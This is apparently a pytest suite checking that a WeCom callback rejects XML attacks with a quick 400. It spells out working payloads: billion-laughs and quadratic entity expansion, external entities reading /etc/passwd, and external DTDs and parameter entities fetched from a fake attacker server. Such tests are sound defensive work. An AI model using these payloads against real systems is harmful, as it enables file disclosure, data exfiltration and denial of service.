"""XML attacks on the WeCom callback, in the outer envelope (before the signature is checked) and
inside a correctly encrypted and signed message: entity expansion, external entities and DTDs,
parameter entities. The parser refuses DTDs and entities outright: a quick 400, nothing fetched,
nothing read from disk, nothing stored."""

from __future__ import annotations

import logging
import time
from collections.abc import Iterator

import pytest

from tests.attacks.conftest import stored
from tests.fakes.http import Answer, FakeServer
from tests.test_wecom import WeComHarness

LAUGHS = (
    '<!DOCTYPE xml [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
    '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">'
    '<!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>'
)
QUADRATIC = '<!DOCTYPE xml [<!ENTITY x "' + "A" * 20000 + '">]>'


@pytest.fixture
def evil_host() -> Iterator[FakeServer]:
    """Where an external entity or DTD would be fetched from; it must never be asked."""
    server = FakeServer(lambda request: Answer(body=b'<!ENTITY leak "fetched">'))
    yield server
    server.close()


def bodies(evil: str) -> dict[str, str]:
    return {
        "billion laughs": LAUGHS + "<xml><Content>&i;</Content></xml>",
        "quadratic blow-up": QUADRATIC + "<xml><Content>" + "&x;" * 2000 + "</Content></xml>",
        "external entity (local file)": '<!DOCTYPE xml [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        "<xml><Content>&f;</Content></xml>",
        "external entity (URL)": f'<!DOCTYPE xml [<!ENTITY f SYSTEM "{evil}/entity">]>'
        "<xml><Content>&f;</Content></xml>",
        "external DTD": f'<!DOCTYPE xml SYSTEM "{evil}/evil.dtd">'
        "<xml><Content>&leak;</Content></xml>",
        "parameter entity": f'<!DOCTYPE xml [<!ENTITY % p SYSTEM "{evil}/p.dtd"> %p;]>'
        "<xml><Content>x</Content></xml>",
        "bare DOCTYPE": "<!DOCTYPE xml><xml><Content>x</Content></xml>",
    }


CASES = list(bodies(""))


@pytest.mark.parametrize("case", CASES)
def test_xml_attacks_in_the_envelope_are_refused(
    wecom: WeComHarness, evil_host: FakeServer, caplog: pytest.LogCaptureFixture, case: str
) -> None:
    caplog.set_level(logging.DEBUG)
    envelope = (
        bodies(evil_host.url)[case]
        .replace("<Content>", "<Encrypt>")
        .replace("</Content>", "</Encrypt>")
    )
    started = time.monotonic()
    answer = wecom.post("x", body=envelope.encode())
    assert answer.status_code == 400 and time.monotonic() - started < 2
    assert not evil_host.requests and not wecom.api.requests
    assert stored(wecom.engine) == {}
    assert "root:" not in caplog.text and "lol" * 3 not in caplog.text


@pytest.mark.parametrize("case", CASES)
def test_xml_attacks_inside_a_signed_encrypted_message_are_refused(
    wecom: WeComHarness, evil_host: FakeServer, caplog: pytest.LogCaptureFixture, case: str
) -> None:
    caplog.set_level(logging.DEBUG)
    inner = bodies(evil_host.url)[case].replace(
        "<xml>", "<xml><FromUserName>zhangsan</FromUserName><MsgType>text</MsgType><MsgId>1</MsgId>"
    )
    started = time.monotonic()
    answer = wecom.post_xml(inner)
    assert answer.status_code == 400 and time.monotonic() - started < 2
    assert not evil_host.requests and not wecom.api.requests
    assert stored(wecom.engine) == {}
    assert "root:" not in caplog.text


def test_deep_nesting_within_the_size_limit_is_not_a_crash(wecom: WeComHarness) -> None:
    inner = "<xml>" + "<a>" * 5000 + "x" + "</a>" * 5000 + "</xml>"
    assert wecom.post_xml(inner).status_code in (200, 400)
    wecom.say("zhangsan", "/帮助")  # the app still answers, and the nested message ran nothing
    assert stored(wecom.engine).get("lead", 0) == 0
